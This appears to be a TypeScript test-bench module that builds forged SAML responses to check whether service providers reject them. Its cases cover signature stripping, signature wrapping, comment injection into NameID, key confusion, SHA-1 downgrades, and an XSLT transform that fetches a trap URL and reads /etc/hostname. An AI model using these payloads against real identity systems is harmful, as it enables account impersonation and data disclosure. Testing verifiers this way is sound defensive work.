import { sign } from 'node:crypto';
import { ExclusiveCanonicalization } from 'xml-crypto';
import { bare, type Credential } from '../certificate.ts';
import { all, parse, serialize } from '../dom.ts';
import { markup } from '../markup.ts';
import { DIGEST, NAMESPACE, SIGNATURE, TRANSFORM } from '../names.ts';
import { type Signing, signing, signRoot } from '../sign.ts';
import { writeAssertion, writeResponse } from '../write.ts';
import { alters, type Bench, bothSigned, type Flaw, issues, nameIds, signs } from './flaw.ts';
import { claiming } from './victim.ts';

/** Something is wrong with the signatures: absent, of another key, weak, or not over what is read. */
export const SIGNATURES = {
  'nothing signed': issues(() => ({ signAssertion: undefined, signResponse: undefined })),
  'the signatures cut out of a good message': edited((document) => {
    for (const signature of all(document, 'Signature')) signature.parentNode?.removeChild(signature);
  }),
  'a signature that is empty': edited((document) => {
    for (const value of all(document, 'SignatureValue')) value.textContent = '';
  }),
  'the NameID changed after signing': edited((document, { victim }) => {
    for (const nameId of all(document, 'NameID')) nameId.textContent = victim;
  }),
  'an attribute added after signing': edited((document, { victim }) => {
    const [statement] = all(document, 'AttributeStatement');
    const [first] = all(document, 'Attribute');
    if (statement === undefined || first === undefined) throw new Error('no attribute to copy');
    const added = statement.appendChild(document.importNode(first, true));
    for (const value of all(added, 'AttributeValue')) value.textContent = victim;
    added.setAttribute('Name', 'groups');
  }),
  'a comment put into the NameID': {
    ...nameIds((_, { victim }) => [{ value: `${victim}.attacker.example` }]),
    alters: (xml, { victim }) => xml.replace(`>${victim}.attacker`, `>${victim}<!---->.attacker`),
    outcome: 'never the victim',
  },

  'a stranger signed, his certificate inside': signs((_, { stranger }) => ({ credential: stranger() })),
  'a stranger signed, the true certificate inside': signs((_, { stranger, credential }) => ({
    credential: { privateKey: stranger().privateKey, certificate: credential.certificate },
  })),
  'HMAC-SHA1 keyed with the certificate': signs(() => ({ signature: SIGNATURE.hmacSha1 })),
  'HMAC-SHA1 keyed with the bare certificate': signs(({ credential }) => ({
    signature: SIGNATURE.hmacSha1,
    credential: { ...credential, certificate: bare(credential.certificate) },
  })),
  'SHA-1 signature and digest': signs(() => ({ signature: SIGNATURE.sha1, digest: DIGEST.sha1 })),
  'a SHA-1 signature over a SHA-256 digest': signs(() => ({ signature: SIGNATURE.sha1 })),
  'a SHA-1 digest under a SHA-256 signature': signs(() => ({ digest: DIGEST.sha1 })),
  'inclusive canonicalization': issues(({ signAssertion, signResponse }) => {
    const inclusive = { canonicalization: TRANSFORM.inclusive, transforms: [TRANSFORM.enveloped, TRANSFORM.inclusive] };
    // The assertion is signed before it stands in the response; only the outermost can take its surroundings along.
    if (signResponse !== undefined) return { signResponse: { ...signResponse, ...inclusive } };
    return { signAssertion: signAssertion && { ...signAssertion, ...inclusive } };
  }),

  'two SignedInfo, the forged one first': regrafted((forged, genuine) => {
    const info = only(forged, 'SignedInfo');
    forged.insertBefore(copy(forged, only(genuine, 'SignedInfo')), info.nextSibling);
    only(forged, 'SignatureValue').textContent = only(genuine, 'SignatureValue').textContent;
  }),
  'two SignedInfo, the forged one last': regrafted((forged, genuine) => {
    forged.insertBefore(copy(forged, only(genuine, 'SignedInfo')), only(forged, 'SignedInfo'));
    only(forged, 'SignatureValue').textContent = only(genuine, 'SignatureValue').textContent;
  }),
  'a forged digest in a comment inside DigestValue': regrafted((forged, genuine) => {
    const digest = only(forged, 'DigestValue').textContent ?? '';
    forged.replaceChild(copy(forged, only(genuine, 'SignedInfo')), only(forged, 'SignedInfo'));
    only(forged, 'SignatureValue').textContent = only(genuine, 'SignatureValue').textContent;
    const value = only(forged, 'DigestValue');
    value.insertBefore(forged.ownerDocument.createComment(digest), value.firstChild);
  }),

  'an XSLT transform': transformed((transforms, { trapUrl }) => [
    ...transforms,
    markup`<ds:Transform xmlns:ds="${NAMESPACE.signature}" Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="document('${trapUrl}')"/><xsl:copy-of select="document('file:///etc/hostname')"/></xsl:template></xsl:stylesheet></ds:Transform>`
      .markup,
  ]),
  'an XPath transform': transformed((transforms) => [
    ...transforms,
    markup`<ds:Transform xmlns:ds="${NAMESPACE.signature}" Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::*[local-name()='NameID'])</ds:XPath></ds:Transform>`
      .markup,
  ]),
  '900 transforms': transformed(([enveloped = '', exclusive = '']) => [
    enveloped,
    ...Array.from({ length: 899 }, () => exclusive),
  ]),
  '2,000 transforms': transformed(([enveloped = '', exclusive = '']) => [
    enveloped,
    ...Array.from({ length: 1_999 }, () => exclusive),
  ]),
  'another element with the signed ID': edited((document) => {
    const [assertion] = all(document, 'Assertion');
    const extensions = document.createElementNS(NAMESPACE.protocol, 'samlp:Extensions');
    const twin = document.createElementNS('urn:example:twin', 'twin');
    twin.setAttribute('ID', assertion?.getAttribute('ID') ?? '');
    extensions.appendChild(twin);
    document.documentElement.insertBefore(extensions, assertion ?? null);
  }),

  'encrypted to the service, nothing signed': issues((_, { encryption }) => ({
    signAssertion: undefined,
    signResponse: undefined,
    encrypt: encryption(),
  })),
  'encrypted to somebody else, nothing signed': issues((_, { encryption, stranger }) => ({
    signAssertion: undefined,
    signResponse: undefined,
    encrypt: encryption({ certificate: stranger().certificate }),
  })),
  'encrypted to somebody else, signed by the provider': issues((_, bench) => ({
    ...bothSigned(bench),
    encrypt: bench.encryption({ certificate: bench.stranger().certificate }),
  })),
  'encrypted and signed by a stranger': issues((_, { encryption, stranger }) => ({
    signAssertion: signing(stranger()),
    signResponse: signing(stranger()),
    encrypt: encryption(),
  })),
  'encrypted, RSA 1.5 key transport': issues((_, bench) => ({
    ...bothSigned(bench),
    encrypt: bench.encryption({ keyTransport: 'rsa-1.5' }),
  })),
  'encrypted, OAEP with SHA-256': issues((_, bench) => ({
    ...bothSigned(bench),
    encrypt: bench.encryption({ keyTransport: 'rsa-oaep-sha256' }),
  })),
  'encrypted, triple DES': issues((_, bench) => ({
    ...bothSigned(bench),
    encrypt: bench.encryption({ content: 'tripledes-cbc' }),
  })),
} satisfies Record<string, Flaw>;

function edited(change: (document: Document, bench: Bench) => void): Flaw {
  return alters((xml, bench) => {
    const document = parse(xml);
    change(document, bench);
    return serialize(document);
  });
}

/** Content about the victim, under signatures made from a stranger's and the genuine one. */
function regrafted(graft: (forged: Element, genuine: Element) => void): Flaw {
  return alters((xml, bench) => {
    const genuine = all(parse(xml), 'Signature');
    const { how } = bench;
    const shape = claiming(bench.shape, bench.victim);
    const fake = signing(bench.stranger());
    const [assertion] = shape.assertions;
    if (assertion === undefined) throw new Error('no assertion to forge');
    const inner = resigned(writeAssertion(assertion, how.dialect), how.signAssertion && fake, assertion.id);
    return resigned(writeResponse(shape, [inner], how.dialect), how.signResponse && fake, shape.id);

    function resigned(part: string, by: Signing | undefined, id: string): string {
      if (by === undefined) return part;
      const document = parse(signRoot(part, by));
      const [forged] = all(document, 'Signature').filter((one) => covers(one, id));
      const [model] = genuine.filter((one) => covers(one, id));
      if (forged === undefined || model === undefined) throw new Error('no signature to graft');
      graft(forged, model);
      return serialize(document);
    }

    function covers(signature: Element, id: string): boolean {
      return all(signature, 'Reference').some((reference) => reference.getAttribute('URI') === `#${id}`);
    }
  });
}

/** Other transforms in the outermost signature, which the true key then signs again. */
function transformed(change: (transforms: string[], bench: Bench) => string[]): Flaw {
  return alters((xml, bench) => {
    const document = parse(xml);
    const [signature] = all(document, 'Signature');
    const [list] = signature === undefined ? [] : all(signature, 'Transforms');
    if (signature === undefined || list === undefined) throw new Error('no signature to change');
    const now = change(Array.from(list.childNodes).map(serialize), bench);
    while (list.firstChild !== null) list.removeChild(list.firstChild);
    for (const one of now) list.appendChild(document.importNode(parse(one).documentElement, true));
    signAgain(signature, bench.credential);
    return serialize(document);
  });
}

/** A SignatureValue that fits the SignedInfo as it now is. */
function signAgain(signature: Element, { privateKey }: Credential): void {
  const info = new ExclusiveCanonicalization().process(only(signature, 'SignedInfo'), {});
  only(signature, 'SignatureValue').textContent = sign('RSA-SHA256', Buffer.from(info), privateKey).toString('base64');
}

function only(parent: Element, name: string): Element {
  const [first] = all(parent, name);
  if (first === undefined) throw new Error(`no ${name}`);
  return first;
}

function copy(place: Element, element: Element): Element {
  return place.ownerDocument.importNode(element, true);
}
